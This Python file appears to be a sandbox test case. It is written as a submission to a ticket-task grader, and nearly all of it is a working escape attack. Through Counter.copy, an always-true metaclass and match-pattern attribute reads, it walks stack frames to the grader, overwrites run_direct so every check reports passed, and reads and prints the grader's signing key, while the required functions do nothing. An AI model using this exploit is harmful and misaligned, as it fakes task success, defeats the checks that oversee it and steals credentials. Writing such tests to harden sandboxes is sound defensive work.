# attack: all three functions do nothing, yet 3/3 (and the signing key read), via the real type:
# 1. collections.Counter.copy(C) runs `self.__class__(self)` with self = our class C: that is the REAL
#    `type` (type(C)), which the sandbox otherwise never hands out.
# 2. The real type makes a metaclass whose __instancecheck__ says yes to any object, and classes with any
#    __match_args__. A positional class pattern `case Read(x)` makes the interpreter itself read
#    subject.<__match_args__[0]> (no _getattr_ guard): gi_frame, f_back, f_globals, __dict__...
# 3. (also: the real builtins' open() reads the signing key ~/.cache/ticket-grader/key)
# 4. From a running generator's frame, walk f_back to the grader's runner frame, take the module
#    grader.execution and replace run_direct in its __dict__: every check is then reported as passed.
# expect: load-error runtime TypeError
import collections


class C:
    pass


RealType = collections.Counter.copy(C)
Meta = RealType("Meta", (RealType,), {"__instancecheck__": lambda cls, obj: True})
GiFrame = Meta("GiFrame", (), {"__match_args__": ("gi_frame",)})
FBack = Meta("FBack", (), {"__match_args__": ("f_back",)})
FBuiltins = Meta("FBuiltins", (), {"__match_args__": ("f_builtins",)})
FGlobals = Meta("FGlobals", (), {"__match_args__": ("f_globals",)})
ModuleDict = Meta("ModuleDict", (), {"__match_args__": ("__dict__",)})

holder = []


def walk():
    match holder[0]:
        case GiFrame(frame):
            pass
    while frame is not None:
        match frame:
            case FGlobals(found):
                if "execution" in found and "Battery" in found:   # grader/runner.py
                    match found["execution"]:
                        case ModuleDict(namespace):
                            namespace["run_direct"] = lambda item, student, seconds: {"outcome": "passed"}
                    match frame:
                        case FBuiltins(real):
                            path = found["os"].path.expanduser("~/.cache/ticket-grader/key")
                            with real["open"](path, "rb") as handle:
                                print("BREACH signing key:", handle.read().hex())
        match frame:
            case FBack(frame):
                pass
    yield None


holder.append(walk())
next(holder[0])


def validate_ticket_proposal(proposal):
    return None


def proposal_fingerprint(proposal):
    return None


def dispatch_ticket(proposal, actor, approved, state, completed):
    return None
